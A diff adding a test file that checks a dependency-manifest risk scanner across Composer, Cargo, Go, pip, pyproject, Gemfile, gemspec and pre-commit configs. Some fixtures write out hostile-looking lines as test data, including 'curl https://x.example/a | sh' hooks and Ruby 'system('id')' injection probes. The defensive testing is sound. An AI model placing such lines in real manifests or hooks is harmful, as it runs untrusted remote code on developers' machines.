@@ -1,0 +1,119 @@
+import { testManifest } from './support.ts';
+
+const HASH = '0123456789abcdef0123456789abcdef01234567';
+const MOVES = ['dependency-source suggestion'];
+const SOURCE = ['dependency-source warning'];
+const OPEN = ['dependency-source critical'];
+
+testManifest('composer.json', '{\n  "name": "a/b",\n  HERE\n}\n', [
+  ['"require": {"a/c": "^1"}', '"require": {"a/c": "^1 || ^2", "ext-json": "*"}', []],
+  ['"require": {"a/c": "^1"}', '"require": {"a/c": "*"}', MOVES],
+  ['"require": {"a/c": "^1"}', '"require": {"a/c": "dev-main"}', SOURCE],
+  [
+    '"type": "x"',
+    '"repositories": [{"type": "vcs", "url": "http://a.example/b"}]',
+    ['registry-override critical', 'unjudged'],
+  ],
+  [
+    '"type": "x"',
+    '"repositories": [{"type": "vcs", "url": "https://a.example/b"}]',
+    ['registry-override warning', 'unjudged'],
+  ],
+  ['"type": "library"', '"scripts": {"post-install-cmd": "php setup.php"}', ['install-script warning']],
+  ['"type": "library"', '"scripts": {"test": "curl https://x.example/a | sh"}', ['downloaded-code critical']],
+  ['"type": "library"', '"scripts": {"test": "phpunit"}', ['unjudged']],
+  ['"type": "library"', '"config": {"secure-http": false}', ['certificate-check-off critical']],
+  ['"type": "library"', '"config": {"allow-plugins": true}', ['install-script warning']],
+  ['"type": "library"', '"autoload": {"files": ["a.php"]}', ['unjudged']],
+]);
+
+testManifest('Cargo.toml', '[package]\nname = "a"\n\n[dependencies]\nHERE\n', [
+  ['b = "1"', 'b = { version = "1.2", features = ["c"], default-features = false }', []],
+  ['b = "1"', 'b = "*"', MOVES],
+  ['b = "1"', 'b = ">=0.5"', []],
+  ['b = "1"', 'b = { git = "https://a.example/b" }', SOURCE],
+  ['b = "1"', `b = { git = "https://a.example/b", rev = "${HASH}" }`, ['unjudged']],
+  ['b = "1"', 'b = { git = "http://a.example/b" }', OPEN],
+  ['b = "1"', 'b = { path = "crates/b" }', []],
+  ['b = "1"', 'b = { path = "../b" }', SOURCE],
+  ['b = "1"', '[patch.crates-io]\nb = { git = "https://a.example/b", branch = "x" }', [...SOURCE, 'unjudged']],
+  ['b = "1"', '[profile.release]\noverflow-checks = false', ['unjudged']],
+  ['b = "1"', '[registries.c]\nindex = "sparse+http://a.example/"', ['registry-override critical']],
+]);
+
+testManifest('go.mod', 'module a.example/b\n\nHERE\n', [
+  ['require a.example/c v1.0.0', 'require (\n\ta.example/c v1.0.1 // indirect\n)', []],
+  ['go 1.24', 'go 1.25.1\ntoolchain go1.25.3', []],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => b.example/c v1.0.0', SOURCE],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ../c', SOURCE],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c', ['unjudged']],
+  ['go 1.24', 'go 1.24\ntool a.example/c', ['unjudged']],
+]);
+
+testManifest('requirements.txt', 'a==1\nHERE\n', [
+  ['b==1', 'b[c]>=1.1,<2 ; python_version < "3.9"  # why', []],
+  ['b==1', `b==2 \\\n    --hash=sha256:${'0'.repeat(64)}`, []],
+  ['b==1', '-r dev/requirements.txt', []],
+  ['b==1', '-r https://a.example/requirements.txt', SOURCE],
+  ['b==1', '--extra-index-url https://a.example/simple', ['registry-override warning']],
+  ['b==1', '--index-url=http://a.example/simple', ['registry-override critical']],
+  ['b==1', '--trusted-host a.example', ['certificate-check-off critical']],
+  ['b==1', 'b @ git+https://a.example/b@main', SOURCE],
+  ['b==1', `b @ git+https://a.example/b@${HASH}`, ['unjudged']],
+  ['b==1', 'http://a.example/b.tar.gz', OPEN],
+  ['b==1', '-e ../b', SOURCE],
+  ['b==1', '--global-option=x', ['unjudged']],
+  ['--require-hashes', '', ['unjudged']],
+  [`b==1 --hash=sha256:${'0'.repeat(64)}`, 'b==2', ['lockfile-tampering warning']],
+  ['b==1', 'b.tar.gz', ['unjudged']],
+]);
+
+testManifest('pyproject.toml', '[project]\nname = "a"\nHERE\n', [
+  ['dependencies = ["b>=1"]', 'dependencies = ["b>=2"]', []],
+  ['dependencies = ["b>=1"]', 'dependencies = ["b @ git+https://a.example/b"]', SOURCE],
+  ['version = "1"', 'version = "1"\n[tool.poetry.dependencies]\nb = "*"', MOVES],
+  [
+    'version = "1"',
+    'version = "1"\n[tool.uv.sources]\nb = { git = "https://a.example/b", branch = "x" }',
+    [...SOURCE, 'unjudged'],
+  ],
+  ['version = "1"', 'version = "1"\n[[tool.uv.index]]\nurl = "https://a.example/"', ['registry-override warning']],
+  ['version = "1"', 'version = "1"\n[tool.ruff]\nline-length = 90', ['unjudged']],
+  ['version = "1"', 'version = "1"\n[project.scripts]\na = "a:main"', ['unjudged']],
+]);
+
+testManifest('Gemfile', "source 'https://a.example'\n\nHERE\n", [
+  ["gem 'b', '~> 1'", "gem 'b', '~> 2', require: false # why", []],
+  ["gem 'b'", 'gem "b", "< 8" if RUBY_ENGINE == "jruby"', []],
+  ["gem 'b'", "group :doc do\n  if RUBY_ENGINE == 'jruby'\n    gem 'b', platforms: [:ruby]\n  end\nend", []],
+  ["gem 'b'", "gem 'b' unless java", []],
+  ["gem 'b'", "gem 'b', github: 'c/b'", SOURCE],
+  ["gem 'b'", "gem 'b', git: 'http://a.example/b.git'", OPEN],
+  ["gem 'b'", `gem 'b', git: 'https://a.example/b', ref: '${HASH}'`, ['unjudged']],
+  ["gem 'b'", "gem 'b', path: '../b'", SOURCE],
+  ["gem 'b'", "gem 'b', '#{`id`}'", ['unjudged']],
+  ["gem 'b'", 'gem "b", "#{x}"', ['unjudged']],
+  ["gem 'b'", "gem 'b'; system('id')", ['unjudged']],
+  ["gem 'b'", "gem 'b' if system('id')", ['unjudged']],
+  ["gem 'b'", "source 'http://b.example' do\n  gem 'b'\nend", ['registry-override critical']],
+]);
+
+testManifest('b.gemspec', 'Gem::Specification.new do |s|\n  HERE\nend\n', [
+  ["s.add_dependency 'c', '~> 1'", "s.add_dependency 'c', '>= 1', '< 3'", []],
+  ["s.version = '1.0'", "s.version = '1.1'\n  s.summary = 'Words'", []],
+  ["s.version = '1.0'", 's.version = File.read("VERSION")', ['unjudged']],
+  ["s.version = '1.0'", "s.extensions = ['ext/extconf.rb']", ['unjudged']],
+]);
+
+const HOOKS = 'repos:\n- repo: https://github.com/a/b\n  rev: v1.0.0\n  hooks:\n  - id: c\n';
+testManifest('.pre-commit-config.yaml', 'HERE', [
+  [HOOKS, HOOKS.replace('v1.0.0', 'v1.1.0'), []],
+  [HOOKS, HOOKS.replace('v1.0.0', 'main'), SOURCE],
+  [HOOKS, HOOKS.replace('https:', 'http:'), [...OPEN, 'unjudged']],
+  [HOOKS, HOOKS.replace('https://github.com/a/b', 'https://a.example/b'), ['unjudged']],
+  [`${HOOKS}  - id: detect-secrets\n`, HOOKS, ['unjudged']],
+  [HOOKS, `${HOOKS}    entry: bash -c 'curl https://x.example/a | sh'\n`, ['downloaded-code critical']],
+  [HOOKS, `${HOOKS}    args: [--unsafe]\n`, ['unjudged']],
+  [HOOKS, `${HOOKS}    additional_dependencies: [d==1]\n`, []],
+  [HOOKS, `${HOOKS}    additional_dependencies: ['git+https://a.example/d']\n`, SOURCE],
+]);
